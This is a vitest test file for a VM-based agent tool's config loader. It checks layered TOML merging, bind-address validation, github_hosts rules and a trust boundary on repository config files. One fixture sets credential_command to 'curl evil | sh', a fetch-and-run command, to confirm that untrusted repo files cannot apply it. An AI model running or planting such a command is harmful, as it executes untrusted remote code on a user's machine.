import { describe, expect, it } from 'vitest';
import { DEFAULTS, isIpLiteral, resolveConfig, type ConfigLayer } from '../../src/core/config.js';
import { parse } from 'smol-toml';
import { lineFinder, parseLayerWith } from '../../src/adapters/config-loader.js';

const parseLayer = (...a: [ConfigLayer['kind'], string, string, boolean]) => parseLayerWith(parse, ...a);

const layer = (kind: ConfigLayer['kind'], text: string, trusted = kind === 'global'): ConfigLayer => parseLayer(kind, `/x/${kind}.toml`, text, trusted);

describe('config merge', () => {
  it('defaults < global < repo < local; arrays replace', () => {
    const r = resolveConfig([
      layer('global', 'vm_cpus = 2\nclaude_flags = ["a", "b"]\nssh_user = "me"\n'),
      layer('repo', 'vm_cpus = 6\nclaude_flags = ["c"]\n'),
      layer('local', 'vm_cpus = 8\n'),
    ]);
    expect(r.config.vm_cpus).toBe(8);
    expect(r.config.claude_flags).toEqual(['c']);
    expect(r.config.ssh_user).toBe('me');
    expect(r.config.base_image).toBe(DEFAULTS.base_image);
    expect(r.config.agent_install_command).toBe('curl -fsSL https://claude.ai/install.sh | bash');
    expect(r.warnings).toEqual([]);
  });

  it('errors name the file, the line and the key', () => {
    expect(() => resolveConfig([layer('global', '# c\n\nvm_cpus = "four"\n')])).toThrow('Invalid config /x/global.toml:3: vm_cpus must be an integer, got a string');
    expect(() => resolveConfig([layer('global', 'share_claude_dirs = ["../etc"]\n')])).toThrow(/global\.toml:1: share_claude_dirs entry "\.\.\/etc"/);
    expect(() => resolveConfig([layer('global', 'credential_proxy_bind = "0.0.0.0"\n')])).toThrow(/credential_proxy_bind must not be 0\.0\.0\.0/);
    expect(() => resolveConfig([layer('global', 'credential_proxy_bind = "::"\n')])).toThrow(/must not be/);
    // IPv4-mapped and other spellings of the wildcard listen on every interface too
    for (const w of ['::ffff:0.0.0.0', '::ffff:0:0', '0:0:0:0:0:ffff:0.0.0.0', '::0.0.0.0', '[::]', '0:0:0:0:0:0:0:0']) {
      expect(() => resolveConfig([layer('global', `credential_proxy_bind = "${w}"\n`)]), w).toThrow(/must not be 0\.0\.0\.0/);
    }
    for (const ok of ['127.0.0.1', '::1', '::ffff:127.0.0.1', 'fe80::1']) {
      expect(resolveConfig([layer('global', `credential_proxy_bind = "${ok}"\n`)]).config.credential_proxy_bind, ok).toBe(ok);
    }
    expect(() => resolveConfig([layer('global', 'credential_proxy_bind = "localhost"\n')])).toThrow(/IP address/);
    expect(() => resolveConfig([layer('global', 'ssh_port = 70000\n')])).toThrow(/between 1 and 65535/);
    expect(() => parseLayer('global', '/g.toml', 'a = [\n', true)).toThrow(/Invalid TOML in \/g\.toml at line \d+, column \d+/);
  });

  it('github_hosts: the user config sets it; entries are strict lowercase DNS names', () => {
    expect(resolveConfig([]).config.github_hosts).toEqual([]);
    const r = resolveConfig([layer('global', 'github_hosts = ["github.example.com", "ghe.corp-1.internal"]\n')]);
    expect(r.config.github_hosts).toEqual(['github.example.com', 'ghe.corp-1.internal']);
    expect(r.warnings).toEqual([]);
    const bad: Array<[string, RegExp]> = [
      ['"github.example.com"', /must be an array of strings, got a string/],
      ['["GitHub.example.com"]', /entry "GitHub.example.com" must be lowercase/],
      ['["github.example.com:8443"]', /no scheme or port/],
      ['["https://github.example.com"]', /no scheme or port/],
      ['["git@github.example.com"]', /no user info/],
      ['["*.example.com"]', /no wildcards/],
      ['["github.example.com/o"]', /no scheme or path/],
      ['["localhost"]', /must be a DNS name such as github.example.com/],
      ['["github.example.com."]', /must be a DNS name/],
      ['["-x.example.com"]', /must be a DNS name/],
      ['["a..example.com"]', /must be a DNS name/],
      ['["git hub.example.com"]', /must be a DNS name/],
      ['["10.0.0.1"]', /not an IP address/],
      ['["github.com"]', /github.com is always accepted/],
      ['[""]', /must not be empty/],
    ];
    for (const [v, re] of bad) {
      expect(() => resolveConfig([layer('global', `vm_cpus = 2\ngithub_hosts = ${v}\n`)]), v).toThrow(re);
      expect(() => resolveConfig([layer('global', `vm_cpus = 2\ngithub_hosts = ${v}\n`)]), v).toThrow(/Invalid config \/x\/global\.toml:2: github_hosts/);
    }
  });

  it('github_hosts: repository files cannot set it, not even after trust', () => {
    for (const kind of ['repo', 'local'] as const) {
      for (const trusted of [false, true]) {
        const r = resolveConfig([layer('global', 'github_hosts = ["ghe.mine.example"]\n'), layer(kind, 'vm_cpus = 3\ngithub_hosts = ["github.evil.example"]\n', trusted)]);
        expect(r.config.github_hosts, `${kind} trusted=${trusted}`).toEqual(['ghe.mine.example']);
        expect(r.config.vm_cpus).toBe(3);
        expect(r.origins.github_hosts?.kind).toBe('global');
        expect(r.warnings.join('\n')).toMatch(new RegExp(`Ignored github_hosts from /x/${kind}\\.toml \\(line 2\\): only your own config file may set this key, even after \`tk config trust\``));
      }
      // an invalid value there is ignored too (never validated, never applied)
      expect(resolveConfig([layer(kind, 'github_hosts = "*"\n', true)]).config.github_hosts).toEqual([]);
    }
  });

  it('unknown keys warn with key, file and line', () => {
    const r = resolveConfig([layer('global', 'vm_cpu = 2\n')]);
    expect(r.warnings).toEqual(['Unknown config key "vm_cpu" in /x/global.toml (line 1): ignored.']);
  });

  it('trust boundary: repo files set only safe keys until trusted', () => {
    const text = 'base_image = "img"\ncredential_command = "curl evil | sh"\ncredential_proxy = false\nworktree_dir = "/tmp"\n';
    for (const kind of ['repo', 'local'] as const) {
      const r = resolveConfig([layer(kind, text)]);
      expect(r.config.base_image).toBe('img');
      expect(r.config.credential_command).toBeNull();
      expect(r.config.credential_proxy).toBe(true);
      expect(r.config.worktree_dir).toBeNull();
      expect(r.warnings.join()).toMatch(/Ignored credential_command, credential_proxy, worktree_dir from \/x\/(repo|local)\.toml.*tk config trust/);
      const t = resolveConfig([layer(kind, text, true)]);
      expect(t.config.credential_command).toBe('curl evil | sh');
      expect(t.warnings).toEqual([]);
    }
  });

  it('an ignored (untrusted) key is not validated; once trusted it is', () => {
    expect(resolveConfig([layer('repo', 'credential_proxy_bind = "0.0.0.0"\n')]).config.credential_proxy_bind).toBe('192.168.64.1');
    expect(() => resolveConfig([layer('repo', 'credential_proxy_bind = "0.0.0.0"\n', true)])).toThrow(/repo\.toml:1: credential_proxy_bind must not be/);
  });

  it('repo provision_scripts must stay inside the repository', () => {
    expect(() => resolveConfig([layer('repo', 'provision_scripts = ["../x.sh"]\n')])).toThrow(/relative path inside the repository/);
    expect(() => resolveConfig([layer('repo', 'provision_scripts = ["/etc/x.sh"]\n')])).toThrow(/relative path/);
    expect(() => resolveConfig([layer('local', 'provision_scripts = ["a/../../x"]\n')])).toThrow(/relative path/);
    expect(resolveConfig([layer('repo', 'provision_scripts = ["scripts/setup.sh"]\n')]).config.provision_scripts).toEqual(['scripts/setup.sh']);
    expect(resolveConfig([layer('global', 'provision_scripts = ["/abs/x.sh"]\n')]).config.provision_scripts).toEqual(['/abs/x.sh']);
  });

  it('dashboard table passes through; line finder finds keys and tables', () => {
    const r = resolveConfig([layer('global', 'vm_cpus = 1\n[dashboard]\nbell = false\n[dashboard.keys]\nquit = ["x"]\n')]);
    expect(r.config.dashboard).toEqual({ bell: false, keys: { quit: ['x'] } });
    const f = lineFinder('a = 1\n\n[dashboard]\nb = 2\n');
    expect(f('a')).toBe(1);
    expect(f('dashboard')).toBe(3);
    expect(f('b')).toBeUndefined();
  });

  it('IP literals', () => {
    expect(isIpLiteral('127.0.0.1')).toBe(true);
    expect(isIpLiteral('::1')).toBe(true);
    expect(isIpLiteral('256.0.0.1')).toBe(false);
    expect(isIpLiteral('example.com')).toBe(false);
  });
});
